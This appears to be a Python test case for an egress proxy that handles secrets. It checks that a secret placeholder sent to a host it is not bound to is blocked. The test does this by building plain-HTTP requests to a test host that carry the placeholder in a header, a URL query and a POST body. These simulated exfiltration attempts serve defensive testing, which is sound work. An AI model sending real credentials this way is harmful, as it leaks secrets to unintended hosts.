# name: secret-misdirect
# tries: send the placeholder to an allowed host the secret is not bound to (plain HTTP, where the proxy reads every byte): in a header, the URL and the body
# must: refuse each such request before it leaves (secret_misdirected, naming the secret, never the value); the unbound host gets nothing
# network: allow=bound.gauntlet.test:{bound_port},allowed.gauntlet.test:{http_port}
# secret: GAUNTLET_KEY@bound.gauntlet.test:{bound_port}
# expect: *=ok egress=violation:secret_misdirected
import os
import socket
import ssl
from urllib.parse import urlsplit

ph = os.environ.get("GAUNTLET_KEY", "no-placeholder")
bound = os.environ.get("GAUNTLET_BOUND", "bound.gauntlet.test:443")
bhost = bound.rpartition(":")[0]
proxy = urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "http://127.0.0.1:3128")


def tunnel(to=bound):
    s = socket.create_connection((proxy.hostname, proxy.port or 3128), timeout=10)
    s.sendall(f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n".encode())
    r = b""
    while b"\r\n\r\n" not in r:
        x = s.recv(1)
        if not x:
            raise OSError("the proxy closed the tunnel")
        r += x
    if b" 200" not in r.split(b"\r\n")[0]:
        raise OSError(r.split(b"\r\n")[0].decode(errors="replace"))
    return s


def ask(raw, ctx=None, to=bound):
    """Send raw bytes over TLS to the bound host through the proxy; all that comes back."""
    try:
        ctx = ctx or ssl.create_default_context()
        s = ctx.wrap_socket(tunnel(to), server_hostname=to.rpartition(":")[0])
        s.sendall(raw)
        got = b""
        while len(got) < 1 << 20:
            try:
                x = s.recv(65536)
            except (OSError, ssl.SSLError):
                break
            if not x:
                break
            got += x
        return got.decode(errors="replace")
    except Exception as e:
        return f"failed: {type(e).__name__}: {e}"


def plain(raw, host):
    """Send raw bytes to the proxy as a plain-HTTP request; the first line back."""
    try:
        s = socket.create_connection((proxy.hostname, proxy.port or 3128), timeout=10)
        s.sendall(raw)
        d = s.recv(4096)
        return d.decode(errors="replace").splitlines()[0] if d else "closed"
    except Exception as e:
        return f"failed: {type(e).__name__}: {e}"
target = os.environ.get("GAUNTLET_HTTP", "allowed.gauntlet.test:80")
print("header:", plain(f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nAuthorization: Bearer {ph}\r\n\r\n".encode(), target))
print("url:", plain(f"GET http://{target}/?k={ph} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode(), target))
body = f"key={ph}"
print("body:", plain(f"POST http://{target}/ HTTP/1.1\r\nHost: {target}\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode(), target))
